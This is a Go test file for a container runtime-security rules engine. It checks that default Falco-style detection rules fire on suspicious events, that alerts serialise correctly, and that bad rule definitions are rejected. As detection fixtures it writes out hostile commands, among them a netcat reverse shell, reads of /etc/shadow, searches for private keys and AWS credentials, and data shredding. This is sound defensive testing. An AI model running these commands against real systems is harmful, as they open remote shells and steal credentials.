package rules

import (
	"encoding/json"
	"strconv"
	"strings"
	"testing"
)

func defaultSet(t *testing.T) *Set {
	t.Helper()
	s, err := Parse(DefaultRules())
	if err != nil {
		t.Fatalf("default rules: %v", err)
	}
	return s
}

func inContainer(e Event) *Event {
	e.Container.ID = "c1"
	e.Container.Image = "docker.io/library/busybox:latest"
	e.K8s.Pod.Name = "web"
	e.K8s.Ns.Name = "default"
	e.Evt.Time = 1_700_000_000_000_000_000
	return &e
}

func exec(name string, args ...string) *Event {
	return inContainer(Event{
		Evt:  Evt{Type: "sentry_execve", Dir: "<"},
		Proc: Proc{Name: name, Exepath: "/bin/" + name, Args: args, Cmdline: strings.Join(append([]string{name}, args...), " ")},
	})
}

func open(path string, write bool) *Event {
	e := inContainer(Event{Evt: Evt{Type: "openat", Dir: "<", IsOpenRead: !write, IsOpenWrite: write}, Proc: Proc{Name: "cat"}})
	e.Fd.Name = path
	e.Fd.Directory, e.Fd.Filename = splitPath(path)
	return e
}

func splitPath(p string) (string, string) {
	i := strings.LastIndex(p, "/")
	if i <= 0 {
		return "/", p[i+1:]
	}
	return p[:i], p[i+1:]
}

func connect(ip string, port int64, res int64) *Event {
	e := inContainer(Event{Evt: Evt{Type: "connect", Dir: "<", Res: res, Failed: res < 0}, Proc: Proc{Name: "wget"}})
	e.Fd.SockFamily, e.Fd.SIP, e.Fd.SPort, e.Fd.Name = "ip", ip, port, ip
	return e
}

func setuid(from, to int64) *Event {
	e := inContainer(Event{Evt: Evt{Type: "setuid", Dir: ">", Arg: Arg{UID: to}}, Proc: Proc{Name: "su"}})
	e.User.UID = from
	return e
}

// Each default rule fires on its action and not on a benign control.
func TestDefaultRulesFireAndControls(t *testing.T) {
	s := defaultSet(t)
	cases := []struct {
		name  string
		event *Event
		rule  string // "" means no rule may fire
	}{
		{"shell", exec("sh", "-c", "id"), "Terminal shell in container"},
		{"not a shell", exec("ls", "/"), ""},
		{"shadow", open("/etc/shadow", false), "Read sensitive file untrusted"},
		{"hostname", open("/etc/hostname", false), ""},
		{"sudoers.d", open("/etc/sudoers.d/x", false), "Read sensitive file untrusted"},
		{"write etc", open("/etc/x", true), "Write below etc"},
		{"write tmp", open("/tmp/x", true), ""},
		{"write bin", open("/usr/bin/x", true), "Write below binary dir"},
		{"apk", exec("apk", "add", "curl"), "Launch Package Management Process in Container"},
		{"nc -e", exec("nc", "-e", "/bin/sh", "1.2.3.4", "80"), "Netcat Remote Code Execution in Container"},
		{"nc plain", exec("nc", "-z", "1.2.3.4", "80"), ""},
		{"wget", exec("wget", "http://x"), "Launch Remote File Copy Tools in Container"},
		{"connect out", connect("10.0.0.1", 80, -115), "Unexpected outbound connection destination"},
		{"connect loopback", connect("127.0.0.1", 80, 0), ""},
		{"connect refused", connect("10.0.0.1", 80, -111), ""},
		{"setuid root", setuid(1000, 0), "Non sudo setuid"},
		{"root setuid", setuid(0, 0), ""},
		{"mount", inContainer(Event{Evt: Evt{Type: "mount", Dir: ">"}}), "Mount attempt in container"},
		{"chroot", inContainer(Event{Evt: Evt{Type: "chroot", Dir: ">"}}), "Chroot in container"},
		{"kubectl exec sh", inContainer(Event{Evt: Evt{Type: "container_exec", Dir: "<"}, Proc: Proc{Name: "sh", Tty: true, Cmdline: "sh"}}), "Terminal shell in container"},
		{"kubectl exec ls", inContainer(Event{Evt: Evt{Type: "container_exec", Dir: "<"}, Proc: Proc{Name: "ls", Cmdline: "ls"}}), ""},
		{"exec probe sh -c", inContainer(Event{Evt: Evt{Type: "container_exec", Dir: "<"}, Proc: Proc{Name: "sh", Cmdline: "sh -c true"}}), ""},
		{"grep keys", exec("grep", "-r", "BEGIN PRIVATE", "/"), "Search Private Keys or Passwords"},
		{"grep other", exec("grep", "-r", "hello", "/"), ""},
		{"find aws", exec("find", "/", "-name", "aws_access_key_id"), "Find AWS Credentials"},
		{"dev shm", func() *Event { e := exec("x"); e.Proc.Exepath = "/dev/shm/x"; return e }(), "Execution from /dev/shm"},
		{"packet socket", inContainer(Event{Evt: Evt{Type: "socket", Dir: ">", Arg: Arg{Domain: 17}}}), "Packet socket created in container"},
		{"inet socket", inContainer(Event{Evt: Evt{Type: "socket", Dir: ">", Arg: Arg{Domain: 2}}}), ""},
		{"shred", exec("shred", "-u", "/data"), "Remove Bulk Data from Disk"},
		{"truncate log", func() *Event { e := open("/var/log/app.log", true); e.Evt.IsOpenTrunc = true; return e }(), "Clear Log Activities"},
		{"append log", open("/var/log/app.log", true), ""},
		{"ptrace attach", inContainer(Event{Evt: Evt{Type: "ptrace", Dir: ">", Arg: Arg{Raw1: 16, Raw2: 7}}}), "PTRACE attached to process"},
		{"ptrace traceme", inContainer(Event{Evt: Evt{Type: "ptrace", Dir: ">", Arg: Arg{Raw1: 0}}}), ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			alerts, err := s.Match(c.event)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, a := range alerts {
				got = append(got, a.Rule)
			}
			if c.rule == "" && len(got) != 0 || c.rule != "" && (len(got) != 1 || got[0] != c.rule) {
				t.Fatalf("fired %q, want %q", got, c.rule)
			}
		})
	}
}

func TestAlertIsFalcoJSON(t *testing.T) {
	s := defaultSet(t)
	alerts, err := s.Match(open("/etc/shadow", false))
	if err != nil || len(alerts) != 1 {
		t.Fatalf("alerts %v, err %v", alerts, err)
	}
	data, err := json.Marshal(alerts[0])
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"time", "rule", "priority", "output", "output_fields", "source", "tags"} {
		if _, ok := m[k]; !ok {
			t.Errorf("no %q in %s", k, data)
		}
	}
	f := m["output_fields"].(map[string]any)
	if f["container.id"] != "c1" || f["k8s.pod.name"] != "web" || f["k8s.ns.name"] != "default" || f["fd.name"] != "/etc/shadow" {
		t.Errorf("output_fields %v", f)
	}
	if m["priority"] != "Warning" || m["time"] != "2023-11-14T22:13:20Z" {
		t.Errorf("priority %v time %v", m["priority"], m["time"])
	}
	if !strings.Contains(alerts[0].Output, "file=/etc/shadow") || !strings.Contains(alerts[0].Output, "container.id=c1") {
		t.Errorf("output %q", alerts[0].Output)
	}
}

func TestParseErrors(t *testing.T) {
	cases := map[string]string{
		"unknown key":    "- rule: r\n  condition: true\n  output: x\n  priority: INFO\n  exceptions: []\n",
		"unknown field":  "- rule: r\n  condition: proc.nam == \"x\"\n  output: x\n  priority: INFO\n",
		"not bool":       "- rule: r\n  condition: proc.name\n  output: x\n  priority: INFO\n",
		"bad output":     "- rule: r\n  condition: true\n  output: \"%proc.nme\"\n  priority: INFO\n",
		"bad priority":   "- rule: r\n  condition: true\n  output: x\n  priority: LOUD\n",
		"two kinds":      "- rule: r\n  list: l\n",
		"late macro":     "- rule: r\n  condition: m\n  output: x\n  priority: INFO\n- macro: m\n  condition: true\n",
		"duplicate":      "- rule: r\n  condition: true\n  output: x\n  priority: INFO\n- rule: r\n  condition: true\n  output: x\n  priority: INFO\n",
		"mixed list":     "- list: l\n  items: [a, 1]\n",
		"shadowing name": "- macro: proc\n  condition: true\n",
		"no condition":   "- rule: r\n  output: x\n  priority: INFO\n",
	}
	for name, src := range cases {
		if _, err := Parse([]byte(src)); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
}

// A macro used twice in a macro used twice, 40 times over, would expand to
// 2^40 nodes: the expansion budget stops it.
func TestMacroBlowupBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString("- macro: m0\n  condition: proc.name == \"x\"\n")
	for i := 1; i <= 40; i++ {
		b.WriteString("- macro: m" + itoa(i) + "\n  condition: m" + itoa(i-1) + " or m" + itoa(i-1) + "\n")
	}
	b.WriteString("- rule: r\n  condition: m40\n  output: x\n  priority: INFO\n")
	if _, err := Parse([]byte(b.String())); err == nil || !strings.Contains(err.Error(), "nodes") {
		t.Fatalf("err %v, want the node bound", err)
	}
}

func itoa(i int) string { return strconv.Itoa(i) }

func TestDisabledRuleAndIntList(t *testing.T) {
	src := "- list: ports\n  items: [22, 2375]\n" +
		"- rule: off\n  condition: true\n  output: x\n  priority: INFO\n  enabled: false\n" +
		"- rule: port\n  condition: fd.sport in ports\n  output: port %fd.sport\n  priority: INFO\n"
	s, err := Parse([]byte(src))
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Rules) != 1 {
		t.Fatalf("%d rules, want 1", len(s.Rules))
	}
	e := connect("10.0.0.1", 2375, 0)
	alerts, err := s.Match(e)
	if err != nil || len(alerts) != 1 || !strings.HasSuffix(alerts[0].Output, "port 2375") {
		t.Fatalf("alerts %v err %v", alerts, err)
	}
}
